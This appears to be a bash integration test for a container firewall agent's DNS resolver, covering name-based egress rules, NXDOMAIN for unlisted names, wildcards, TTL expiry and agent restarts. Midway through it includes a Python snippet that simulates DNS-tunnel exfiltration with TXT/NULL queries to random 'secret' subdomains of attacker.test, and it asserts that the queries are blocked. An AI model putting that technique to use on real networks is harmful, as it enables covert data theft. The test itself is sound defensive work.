#!/usr/bin/env bash
# 210: rules by name through the agent's resolver, with a real DNS server
# (dnsmasq) in the remote namespace whose records change during the test.
# A container's queries (UDP and TCP port 53, to whatever address) are
# answered by the resolver: an allowed name is asked upstream and its
# addresses are open before the answer comes back; any other name gets
# NXDOMAIN and never leaves the host (the server's query log shows it);
# deny names, wildcards, another container's lookups, records that change
# and run out, DNS over TLS and a restart of the agent during a query loop.
set -euo pipefail
. "$(dirname "$0")/lib.sh"

hfw_init resolver
need_agentd
command -v curl >/dev/null || skip "curl missing"
topo_up
servers_up

dns_server_up

agentd_start --dns-upstream "$DNS" --dns-min-ttl 2 --dns-max-ttl 6

V=/api/v1/containers
expect_api "attach c1" 201 PUT $V/c1 '{"interface": "hc1"}'
expect_api "attach c2" 201 PUT $V/c2 '{"interface": "hc2"}'
expect_api "c1: allow tcp 443 to api.example.test" 201 POST $V/c1/firewall/egress \
	'{"id": "api", "destination": "api.example.test", "protocol": "tcp", "destination_port": "443", "action": "allow"}'
check "no warning that names open nothing" sh -c "! grep -q names_unresolved $WORK/api.out"


expect_lookup_opens c1 "$C1" "$C2" c2
expect_api "c2: the same rule by name" 201 POST $V/c2/firewall/egress \
	'{"id": "api", "destination": "api.example.test", "protocol": "tcp", "destination_port": "443", "action": "allow"}'
expect_blocked "c1's lookup opens nothing for c2, which has the same rule" tcp "$C2" 203.0.113.10 443
lookup "$C2" +short @"$DNS" api.example.test A >"$WORK/a1c2"
check "c2 resolves it itself" grep -qx 203.0.113.10 "$WORK/a1c2"
expect_ok "... and then connects" tcp "$C2" 203.0.113.10 443
expect_api "c2: the rule goes" 200 DELETE $V/c2/firewall/egress/api

# --- any address, UDP and TCP, IPv4 and IPv6: the resolver answers
for srv in 192.0.2.99 10.10.1.1 203.0.113.10; do
	check "a query to $srv (UDP) is answered by the resolver" \
		sh -c "ip netns exec $C1 dig +short +tries=1 +timeout=2 @$srv api.example.test | grep -qx 203.0.113.10"
done
check "a query over TCP is answered" \
	sh -c "ip netns exec $C1 dig +tcp +short +tries=1 +timeout=2 @192.0.2.99 api.example.test | grep -qx 203.0.113.10"
check "a query over IPv6 is answered" \
	sh -c "ip netns exec $C1 dig -6 +short +tries=1 +timeout=2 @2001:db8::53 api.example.test | grep -qx 203.0.113.10"
lookup "$C1" +short @"$DNS" api.example.test AAAA >"$WORK/aaaa"
check "AAAA: 2001:db8::10 [$(tr '\n' ' ' <"$WORK/aaaa")]" grep -qx 2001:db8::10 "$WORK/aaaa"
expect_ok "... which connects over IPv6" tcp "$C1" 2001:db8::10 443
expect_blocked "DNS over TLS to the server (tcp 853) stays blocked" tcp "$C1" "$DNS" 853
expect_blocked "... and another UDP port of it" udp "$C1" "$DNS" 5353

# --- names the container may not resolve never leave the host
before=$(wc -l <"$WORK/dnsmasq.log")
expect_names_refused c1 "$C1"
# an exfiltration attempt: TXT and NULL queries of random subdomains
ip netns exec "$C1" "$PYTHON" - "$DNS" >"$WORK/flood" <<'PY'
import os, random, socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.5)
sent = got = nx = 0
for i in range(300):
    label = os.urandom(12).hex()
    name = "%s.secret-%d.attacker.test" % (label, i)
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    q += b"\0" + struct.pack(">HH", 16 if i % 2 else 10, 1)
    s.sendto(q, (sys.argv[1], 53))
    sent += 1
    try:
        a = s.recv(4096)
        got += 1
        nx += (a[3] & 0xf) == 3
    except socket.timeout:
        pass
print(sent, got, nx)
PY
read -r sent got nx <"$WORK/flood"
check "300 TXT/NULL queries of random names: answered NXDOMAIN or dropped over the rate ($got answered, $nx NXDOMAIN)" \
	test "$got" -eq "$nx" -a "$nx" -gt 0
after=$(tail -n +"$((before + 1))" "$WORK/dnsmasq.log")
check "the server saw none of them, nor other.example.test, nor the TXT query" \
	sh -c "! printf '%s' \"\$1\" | grep -q 'attacker\|other.example\|query\[TXT\]'" sh "$after"
api GET "$V/c1/firewall/drops?limit=500"
check "refused queries are in the drop log (kind dns, the name)" \
	sh -c "grep -q '\"kind\":\"dns\"' $WORK/api.out && grep -q 'other.example.test' $WORK/api.out"

# --- wildcards and deny names
expect_api "c1: allow tcp 443 to *.github.test" 201 POST $V/c1/firewall/egress \
	'{"id": "gh", "destination": "*.github.test", "protocol": "tcp", "destination_port": "443", "action": "allow"}'
expect_api "c1: deny b.github.test" 201 POST $V/c1/firewall/egress \
	'{"id": "nob", "destination": "b.github.test", "action": "deny"}'
lookup "$C1" +short @"$DNS" a.github.test >"$WORK/gh"
check "a.github.test resolves under the wildcard" grep -qx 192.0.2.10 "$WORK/gh"
lookup "$C1" @"$DNS" github.test >"$WORK/gh0"
check "github.test itself does not (NXDOMAIN)" grep -q 'status: NXDOMAIN' "$WORK/gh0"
lookup "$C1" @"$DNS" b.github.test >"$WORK/ghb"
check "the denied b.github.test: NXDOMAIN" grep -q 'status: NXDOMAIN' "$WORK/ghb"
check "... and the server was never asked for it" sh -c "! grep -q 'b.github.test' $WORK/dnsmasq.log"
batch_begin
expect_ok "a.github.test's 192.0.2.10:443 connects" tcp "$C1" 192.0.2.10 443
expect_blocked "b.github.test's 192.0.2.11:443 does not" tcp "$C1" 192.0.2.11 443
batch_end

# --- the audit shows what is open, and for how long yet
lookup "$C1" +short @"$DNS" api.example.test >/dev/null
expect_api "the audit" 200 GET $V/c1/firewall/audit
"$PYTHON" -c 'import json, sys
for c in json.load(open(sys.argv[1]))["data"]["containers"]:
    for r in c.get("rules", []):
        for l in r.get("learned", []):
            print(r["id"], l["address"], l["expires_in"])' "$WORK/api.out" >"$WORK/learned"
check "it lists what the lookups opened, for how long yet [$(tr '\n' ';' <"$WORK/learned")]" \
	sh -c "grep -q '^api 203.0.113.10 [1-6]$' $WORK/learned && grep -q '^gh 192.0.2.10 [1-6]$' $WORK/learned"

# --- the record changes: the new address opens, the old one closes with its TTL
records "203.0.113.20 api.example.test" "2001:db8::10 api.example.test" \
	"203.0.113.11 other.example.test" "192.0.2.10 a.github.test" "192.0.2.11 b.github.test"
poll 10 "dnsmasq serves the new record" sh -c "ip netns exec $REMOTE dig +short @$DNS api.example.test | grep -qx 203.0.113.20"
lookup "$C1" +short @"$DNS" api.example.test >"$WORK/a2"
check "c1 resolves the new address [$(tr '\n' ' ' <"$WORK/a2")]" grep -qx 203.0.113.20 "$WORK/a2"
expect_ok "the new 203.0.113.20:443 connects" tcp "$C1" 203.0.113.20 443
t0=$(date +%s)
# the IPv4 set of c1's rule by name (its comment) NAME
dset4() { nsx "$HOST" nft -j list sets inet | "$PYTHON" -c '
import json, sys
for o in json.load(sys.stdin)["nftables"]:
    s = o.get("set")
    if s and s["table"] == sys.argv[1] and s["name"].startswith("d4_") and s.get("comment") == sys.argv[2]:
        print(s["name"])' "$TABLE" "$1" | head -1; }
D4=$(dset4 api.example.test)
check "c1's set of api.example.test ($D4)" test -n "$D4"
# closed: gone from a listing that still holds the new address
old_closed() { NFT_HAS='203.0.113.20 ' nft_lacks "$HOST" '203.0.113.10 ' list set inet "$TABLE" "$D4"; }
poll 15 "the old address's element times out" old_closed
check "... within its clamped lifetime (6 s at most; took $(($(date +%s) - t0)) s)" test $(($(date +%s) - t0)) -le 7
expect_blocked "the old 203.0.113.10:443 refuses new connections" tcp "$C1" 203.0.113.10 443

# --- an agent restart during a query loop loses no query
expect_restart_keeps_dns "$C1" a --dns-upstream "$DNS" --dns-min-ttl 2 --dns-max-ttl 6
check "the restarted agent linked to the running resolver" \
	grep -q 'the resolver a previous agentd started is there' "$WORK/agentd.log"

# --- the bound on what a container holds open, and lookups that open nothing new
agentd_stop TERM
agentd_start --dns-upstream "$DNS" --dns-min-ttl 2 --dns-max-ttl 6 --dns-max-learned 1 --debug
lookup "$C1" +short @"$DNS" api.example.test >/dev/null
expect_ok "with --dns-max-learned 1: api.example.test's 203.0.113.20 open" tcp "$C1" 203.0.113.20 443
lookup "$C1" +short @"$DNS" a.github.test >/dev/null
check "the next lookup closes it early, and the log says so" \
	grep -q '1 learned addresses closed early' "$WORK/agentd.log"
batch_begin
expect_blocked "203.0.113.20:443 refused now" tcp "$C1" 203.0.113.20 443
expect_ok "a.github.test's 192.0.2.10:443 open" tcp "$C1" 192.0.2.10 443
batch_end
before=$(grep -c 'their 1 addresses open already, no commit' "$WORK/agentd.log" || true)
lookup "$C1" +short @"$DNS" a.github.test >/dev/null
lookup "$C1" +short @"$DNS" a.github.test >/dev/null
after=$(grep -c 'their 1 addresses open already, no commit' "$WORK/agentd.log" || true)
check "repeated lookups within the slack open nothing anew ($before -> $after)" \
	test "$after" -ge $((before + 1))

# --- a second agent wanting the same port does not start; a resolver that dies stops the agent
rc=0
ip netns exec "$HOST" timeout 20 "$AGENTD" --table "${TABLE}b" --socket "$WORK/b.sock" \
	--state-dir "$WORK/bstate" >"$WORK/b.log" 2>&1 || rc=$?
check "a second agent on the taken --dns-port exits with an error (status $rc)" \
	sh -c "[ $rc -ne 0 ] && [ $rc -ne 124 ] && grep -q 'binding port 1053' $WORK/b.log"
RPID=$(ip netns pids "$HOST" | while read -r p; do [ "$(cat /proc/$p/comm 2>/dev/null)" != hoody-resolver ] || echo "$p"; done)
kill -9 $RPID
agent_gone() { ! kill -0 "$AGENTD_PID" 2>/dev/null; }
check "the resolver killed: the agent stops, to be started with a new one" poll_quiet 10 agent_gone
check "... saying why" grep -q 'the resolver is gone; stopping' "$WORK/agentd.log"

finish
